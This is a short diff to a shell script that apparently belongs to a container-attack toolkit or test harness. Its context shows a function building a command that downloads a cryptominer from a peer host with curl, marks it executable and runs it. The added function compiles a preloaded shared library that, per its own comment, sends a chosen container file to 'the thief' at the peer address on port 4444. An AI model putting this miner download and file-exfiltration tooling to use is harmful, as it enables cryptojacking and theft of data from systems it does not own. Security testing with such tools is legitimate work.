@@ -140,3 +140,8 @@ armoury_begin() {
 miner_commands() {
 	echo "curl -so $1 http://$peer_address:8081/miner; chmod 755 $1; $1 $peer_address 3333 3"
 }
+
+# preload_library FILE PATH: a library that sends the file PATH of the container to the thief as it is loaded.
+preload_library() {
+	gcc -shared -fPIC -O1 -DPATH="\"$2\"" -DADDRESS="\"$peer_address\"" -DPORT=4444 -o "$1" "$here/preload.c"
+}
